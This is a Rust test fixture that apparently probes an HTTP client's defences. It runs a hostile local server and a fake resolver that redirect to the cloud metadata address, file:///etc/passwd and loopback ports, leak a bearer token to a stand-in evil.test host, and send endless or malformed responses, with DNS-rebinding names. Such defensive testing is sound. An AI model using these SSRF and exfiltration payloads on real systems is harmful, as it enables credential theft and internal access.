//! A merchant's server that is hostile, too, and names that stand for addresses of its choice.

use std::{
    io,
    net::IpAddr,
    sync::{
        Arc, Mutex, PoisonError,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use base64::{Engine as _, prelude::BASE64_STANDARD};
use futures_util::future::BoxFuture;
use pod_host::Resolve;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, TcpStream},
    task::JoinHandle,
};

/// Servers would keep what they were sent, and show it to whoever asks next.
#[derive(Default)]
struct Kept {
    asked: AtomicUsize,
    key: Mutex<String>,
}

/// One request a connection. Whoever is not told may send its next one into a connection that is just
/// being closed, and nobody gets it.
const CLOSES: &str = "connection: close\r\n";

/// A server on this machine, for one attack alone: so it is known what reaches it.
pub struct Erp {
    pub port: u16,
    kept: Arc<Kept>,
    task: JoinHandle<()>,
}

impl Erp {
    pub async fn start() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).await.expect("a port");
        let port = listener.local_addr().expect("it listens").port();
        let kept = Arc::<Kept>::default();
        let shared = kept.clone();
        let task = tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let kept = shared.clone();
                tokio::spawn(async move {
                    // Whoever asked may have hung up.
                    let _ = answer(stream, &kept).await;
                });
            }
        });
        Self { port, kept, task }
    }

    /// How many requests it got.
    pub fn asked(&self) -> usize {
        self.kept.asked.load(Ordering::Relaxed)
    }
}

impl Drop for Erp {
    fn drop(&mut self) {
        self.task.abort();
    }
}

async fn answer(mut stream: TcpStream, kept: &Kept) -> io::Result<()> {
    let request = request(&mut stream).await?;
    if request.is_empty() {
        return Ok(());
    }
    kept.asked.fetch_add(1, Ordering::Relaxed);
    let path = request.split(' ').nth(1).unwrap_or_default();
    let key = request.lines().find_map(|line| line.strip_prefix("x-key: Bearer "));
    let key = key.unwrap_or("nothing");
    match path.split('?').next().unwrap_or_default() {
        "/ok" => stream.write_all(&page("ok")).await?,
        "/echo" => stream.write_all(&page(&request)).await?,
        "/echo-in-base64" => {
            let bodies = [key.to_owned(), format!("-{key}-"), format!("--{key}--")];
            let bodies = bodies.map(|body| BASE64_STANDARD.encode(body));
            stream.write_all(&page(&bodies.join(" "))).await?;
        }
        "/echo-in-a-name" => {
            let head = format!("HTTP/1.1 200 OK\r\n{key}: x\r\ncontent-length: 0\r\n\r\n");
            stream.write_all(head.as_bytes()).await?;
        }
        "/keep" => {
            key.clone_into(&mut kept.key.lock().unwrap_or_else(PoisonError::into_inner));
            stream.write_all(&page("kept")).await?;
        }
        "/kept" => {
            let key = kept.key.lock().unwrap_or_else(PoisonError::into_inner).clone();
            stream.write_all(&page(&key)).await?;
        }
        "/to-metadata" => redirect(&mut stream, "http://169.254.169.254/latest/meta-data").await?,
        "/to-name" => redirect(&mut stream, "http://loopback.test/ok").await?,
        "/to-file" => redirect(&mut stream, "file:///etc/passwd").await?,
        "/to-port" => redirect(&mut stream, "http://127.0.0.1:1/ok").await?,
        "/to-far" => {
            let far = format!("http://evil.test/{}", "x".repeat(300_000));
            redirect(&mut stream, &far).await?;
        }
        "/around" => redirect(&mut stream, "/around").await?,
        "/around-with-a-body" => {
            let head = "HTTP/1.1 302 Found\r\nlocation: /around-with-a-body\r\n";
            let body = "x".repeat(60_000);
            let head = format!("{head}{CLOSES}content-length: {}\r\n\r\n{body}", body.len());
            stream.write_all(head.as_bytes()).await?;
        }
        "/leak" => redirect(&mut stream, &format!("http://evil.test/{key}")).await?,
        "/endless" => {
            stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n").await?;
            loop {
                stream.write_all(&[b'.'; 64 * 1024]).await?;
            }
        }
        "/announced" => {
            stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 99999999\r\n\r\nx").await?;
        }
        "/endless-headers" => {
            stream.write_all(b"HTTP/1.1 200 OK\r\n").await?;
            loop {
                stream.write_all(b"a: b\r\n").await?;
            }
        }
        "/endless-welcome" => loop {
            stream.write_all(b"HTTP/1.1 100 Continue\r\n\r\n").await?;
            tokio::time::sleep(Duration::from_millis(1)).await;
        },
        "/endless-chunk" => {
            stream.write_all(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n1;").await?;
            loop {
                stream.write_all(&[b'x'; 1024]).await?;
            }
        }
        "/endless-trailers" => {
            let head = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n";
            stream.write_all(head.as_bytes()).await?;
            loop {
                stream.write_all(b"a: b\r\n").await?;
            }
        }
        "/two-lengths" => {
            let head = "HTTP/1.1 200 OK\r\ncontent-length: 1\r\ncontent-length: 9\r\n\r\nx";
            stream.write_all(head.as_bytes()).await?;
        }
        "/gzip" => {
            let head = "HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 4\r\n\r\nbomb";
            stream.write_all(head.as_bytes()).await?;
        }
        "/drip" => {
            stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n").await?;
            loop {
                stream.write_all(b".").await?;
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
        "/late" => {
            stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n").await?;
            tokio::time::sleep(Duration::from_secs(3)).await;
            stream.write_all(b"ok").await?;
        }
        "/not-http" => stream.write_all(b"SSH-2.0-something\r\n").await?,
        _ => {}
    }
    stream.shutdown().await
}

/// Reads a request to its end: what is not read when the connection is closed would reset it.
async fn request(stream: &mut TcpStream) -> io::Result<String> {
    let mut bytes = Vec::new();
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.lines().find_map(|line| line.strip_prefix("content-length: "));
            let length = length.and_then(|length| length.parse().ok()).unwrap_or(0);
            if body.len() >= length {
                return Ok(text);
            }
        }
        if stream.read_buf(&mut bytes).await? == 0 {
            return Ok(text);
        }
    }
}

fn page(body: &str) -> Vec<u8> {
    format!("HTTP/1.1 200 OK\r\n{CLOSES}content-length: {}\r\n\r\n{body}", body.len()).into_bytes()
}

async fn redirect(stream: &mut TcpStream, to: &str) -> io::Result<()> {
    let head = format!("HTTP/1.1 302 Found\r\n{CLOSES}location: {to}\r\ncontent-length: 0\r\n\r\n");
    stream.write_all(head.as_bytes()).await
}

/// Names stand for what their first part says.
#[derive(Default)]
pub struct Names {
    asked: AtomicUsize,
}

impl Resolve for Names {
    fn resolve<'a>(&'a self, host: &'a str) -> BoxFuture<'a, io::Result<Vec<IpAddr>>> {
        let fickle = ["127.0.0.1", "10.0.0.7", "::1"];
        let turn = self.asked.fetch_add(1, Ordering::Relaxed) % fickle.len();
        let addresses: &[&str] = match host {
            "loopback.test" => &["127.0.0.1"],
            "private.test" => &["10.0.0.7"],
            "metadata.test" => &["169.254.169.254"],
            "mapped.test" => &["::ffff:127.0.0.1"],
            "nat64.test" => &["64:ff9b::7f00:1"],
            "unique-local.test" => &["fd00::1"],
            "several.test" => &["8.8.8.8", "127.0.0.1"],
            "fickle.test" => &fickle[turn..=turn],
            _ => &[],
        };
        let read = addresses.iter().map(|address| address.parse().map_err(io::Error::other));
        let found = read.collect();
        Box::pin(async move { found })
    }
}
